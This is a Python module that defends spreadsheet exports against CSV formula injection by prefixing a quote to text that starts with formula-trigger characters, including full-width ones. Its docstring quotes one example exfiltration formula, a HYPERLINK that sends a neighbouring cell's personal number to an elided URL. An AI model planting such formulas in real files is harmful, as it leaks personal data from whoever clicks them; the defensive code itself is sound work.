"""Spreadsheet cells that are safe to open: outside text never becomes a live formula.

A file name, a 受付番号 or an OCR value that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is read by Excel (and LibreOffice, and Google Sheets) as a formula when the
CSV or workbook is opened: ``=HYPERLINK("http://…/?leak="&A3, "詳細")`` beside a 個人番号 sends
it away on one click. Following the OWASP guidance on CSV injection, such text gets a single
quote in front (``'=1+1``), so it shows as text and stays text when a clerk edits the cell.
The full-width forms ``＝ ＋ － ＠`` are treated the same: Excel's Japanese input converts them.

Only text is touched: numbers, dates and booleans that jimu computed stay what they are, so a
negative count is still a number. In a workbook, :func:`set_text_cell` also stores every
string as a string cell (openpyxl would otherwise store text starting with ``=`` as a formula
and ``#N/A`` as an error value).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any, Final, Protocol, TypeAlias

__all__ = [
    "CellValue",
    "append_safe_row",
    "safe_cell",
    "safe_row",
    "set_text_cell",
    "unquote_cell",
]

CellValue: TypeAlias = (
    str | int | float | Decimal | bool | datetime | date | time | timedelta | None
)
"""What jimu writes into a spreadsheet cell."""

# First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width).
_FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r＝＋－＠")

# Characters an xlsx file cannot hold (openpyxl refuses them with the whole value in its
# message, which may be personal): every C0 control but tab, line feed and carriage return.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_REPLACEMENT = "\ufffd"


class _Cell(Protocol):
    value: Any
    data_type: str


class _Sheet(Protocol):
    def append(self, iterable: Any) -> None: ...

    @property
    def max_row(self) -> int: ...

    def __getitem__(self, key: int) -> Any: ...


def safe_cell(value: CellValue) -> CellValue:
    """``value`` made safe to write into a CSV or workbook cell.

    Text starting with ``= + - @``, a tab, a CR or ``＝ ＋ － ＠`` gets a leading ``'``;
    control characters a workbook cannot hold become ``�``. Anything that is not text is
    returned unchanged.
    """
    if not isinstance(value, str):
        return value
    text = _NOT_IN_XML.sub(_REPLACEMENT, value)
    if text and text[0] in _FORMULA_TRIGGERS:
        return "'" + text
    return text


def safe_row(values: Iterable[CellValue]) -> list[CellValue]:
    """Every value of a row passed through :func:`safe_cell` (for ``csv.writer`` too)."""
    return [safe_cell(value) for value in values]


def set_text_cell(cell: _Cell, value: CellValue) -> None:
    """Put ``value`` into an openpyxl cell, neutralised; text is stored as a string cell.

    openpyxl infers the type from the text: a value starting with ``=`` becomes a formula
    (``data_type == "f"``) and ``#N/A`` an error; this forces ``"s"`` for every string.
    """
    safe = safe_cell(value)
    cell.value = safe
    if isinstance(safe, str):
        cell.data_type = "s"


def append_safe_row(sheet: _Sheet, values: Iterable[CellValue]) -> None:
    """``sheet.append(values)`` with every value neutralised and every string a string cell."""
    row = safe_row(values)
    sheet.append(row)
    if not any(isinstance(value, str) for value in row):
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def unquote_cell(text: str) -> str:
    """The text a CSV written the OWASP way meant: ``'=1+1`` → ``=1+1``; anything else as it is.

    For readers of other systems' exports, which may neutralise formulas as jimu does.
    """
    if len(text) >= 2 and text[0] == "'" and text[1] in _FORMULA_TRIGGERS:
        return text[1:]
    return text
